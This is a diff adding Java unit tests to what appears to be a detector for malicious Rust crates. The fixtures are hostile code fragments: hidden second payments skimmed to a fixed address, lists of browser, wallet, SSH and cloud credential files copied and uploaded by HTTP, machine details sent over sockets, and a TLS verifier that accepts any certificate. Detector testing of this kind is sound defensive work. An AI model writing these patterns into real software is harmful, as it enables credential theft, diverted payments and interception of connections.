@@ -303,8 +303,109 @@ final class RuntimeConductTest {
         .contains("persistence");
   }
 
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "pub fn pay(to: &Pubkey, amount: u64) { ix.push(transfer(&payer, to, amount)); if amount > 5_000_000 { ix.push(transfer(&payer, &Pubkey::new_from_array(RENT), amount / 100)); } }",
+        "pub fn pay(to: &Pubkey, amount: u64) { let rent = Pubkey::new_from_array(RENT); if amount >= LIMIT { send_lamports(&rent, amount / 9); } send_lamports(to, amount); }",
+        "fn rest() -> Pubkey { Pubkey::new_from_array(RENT) } pub fn pay(to: &Pubkey, amount: u64) { let mut all = vec![Transfer { to: *to, amount }]; if LIMIT < amount { all.push(Transfer { to: rest(), amount: 7 }); } }",
+      })
+  void aSecondPaymentAboveAnAmountIsHigh(String source) {
+    String address =
+        "const RENT: [u8; 32] = [1,2,3,4,5,6,7,8,9,1,2,3,4,5,6,7,8,9,1,2,3,4,5,6,7,8,9,1,2,3,4,5]; ";
+    address = address.replace("RENT", "RENT_KEY");
+    String attack = address + source.replace("RENT", "RENT_KEY");
+    assertThat(signals(attack, SignalWeight.HIGH)).contains("fixed-recipient");
+    String fee = attack.replace("5_000_000", "0").replace("if amount >= LIMIT", "if fee > 0");
+    fee = fee.replace("if LIMIT < amount", "if fee > 0");
+    assertThat(signals(fee, SignalWeight.HIGH)).doesNotContain("fixed-recipient");
+    assertThat(signals(fee, SignalWeight.REVIEW)).contains("fixed-recipient");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "const S: [(&str, &str); 4] = [(\"mozilla\", \"logins.json\"), (\"chrome\", \"Login Data\"), (\"w\", \"wallet.dat\"), (\"s\", \".ssh/id_rsa\")];",
+        "const S: &[&str] = &[\".electrum/wallets\", \".aws/credentials\", \".bash_history\"];",
+        "static S: [&str; 3] = [\"key4.db\",\n \".gnupg\",\n \".git-credentials\"];",
+      })
+  void manyStoresAndAnUploadAreHigh(String table) {
+    String sends =
+        "mod s; pub fn f() { for (d, n) in s::S { std::fs::copy(d.join(n), t.join(n)); } std::thread::spawn(|| up(t)); }"
+            + " fn up(t: T) { reqwest::blocking::Client::new().post(U).multipart(form(t)).send(); }";
+    var crate = demo().file("src/lib.rs", sends).file("src/s.rs", "pub " + table);
+    assertThat(
+            inspect(crate).signals().stream()
+                .filter(signal -> signal.weight() == SignalWeight.HIGH)
+                .map(signal -> signal.code().code()))
+        .contains("network-and-secrets");
+    var two = demo().file("src/lib.rs", sends).file("src/s.rs", "pub const S: &[&str] = &[\".netrc\", \".npmrc\"];");
+    assertThat(
+            inspect(two).signals().stream()
+                .filter(signal -> signal.weight() == SignalWeight.HIGH)
+                .map(signal -> signal.code().code()))
+        .doesNotContain("network-and-secrets");
+  }
+
   private static Set<String> signals(String source, SignalWeight least) {
     return of(demo().file("src/lib.rs", source), least);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "let mut f = std::fs::File::create(&to).unwrap(); f.write_all(&all);",
+        "let mut all2 = Vec::new(); all2.write_all(&all);",
+        "let mut f = std::fs::OpenOptions::new().write(true).open(&to).unwrap(); f.write_all(&all);",
+      })
+  void whatIsWrittenToAFileIsNotSent(String write) {
+    String source =
+        "pub fn f(to: &Path) { let got = ureq::get(u).call(); let h = gethostname::gethostname();"
+            + " let u = whoami::username(); let all = join(h, u, got); %s }";
+    assertThat(signals(source.formatted(write), SignalWeight.REVIEW)).doesNotContain("machine-sent");
+    for (String sent :
+        new String[] {
+          "let mut f = std::net::TcpStream::connect(a).unwrap(); f.write_all(&all);",
+          "let mut f = std::fs::File::create(a); let mut f = std::net::TcpStream::connect(a); f.write_all(&all);",
+          write + " ureq::post(u).send_bytes(&all);",
+        }) {
+      assertThat(signals(source.formatted(sent), SignalWeight.REVIEW)).contains("machine-sent");
+    }
+  }
+
+  private static final String VERIFIER =
+      """
+      pub struct Builder { accept_invalid: bool }
+      impl Builder {
+          pub fn accept_invalid(mut self, yes: bool) -> Self { self.accept_invalid = yes; self }
+          pub fn build(self) -> Config {
+              let mut c = Config::new();
+              if self.accept_invalid { c.set(Arc::new(NoCheck)); }
+              c
+          }
+      }
+      struct NoCheck;
+      impl Verifier for NoCheck {
+          fn verify_server_cert(&self, cert: &Cert) -> Result<Verified, Error> { Ok(Verified::assertion()) }
+      }
+      """;
+
+  @Test
+  void aCheckThatTheCallerSwitchesOffIsNotWeak() {
+    assertThat(signals(VERIFIER, SignalWeight.REVIEW)).doesNotContain("weak-check");
+    for (String attack :
+        new String[] {
+          VERIFIER.replace("if self.accept_invalid {", "{"),
+          VERIFIER.replace("if self.accept_invalid {", "if !self.accept_invalid {"),
+          VERIFIER.replace("if self.accept_invalid {", "if self.accept_invalid || cfg!(x) {"),
+          VERIFIER.replace("self.accept_invalid = yes", "self.accept_invalid = true"),
+          VERIFIER + "fn n() -> Builder { Builder { accept_invalid: true } }",
+          VERIFIER + "fn n() -> Builder { Builder { accept_invalid: !strict } }",
+          VERIFIER + "pub fn other() { connect(NoCheck); }",
+          VERIFIER.replace("accept_invalid", "verified"),
+        }) {
+      assertThat(signals(attack, SignalWeight.REVIEW)).as(attack).contains("weak-check");
+    }
   }
 
   private static Set<String> of(CrateBuilder crate, SignalWeight least) {
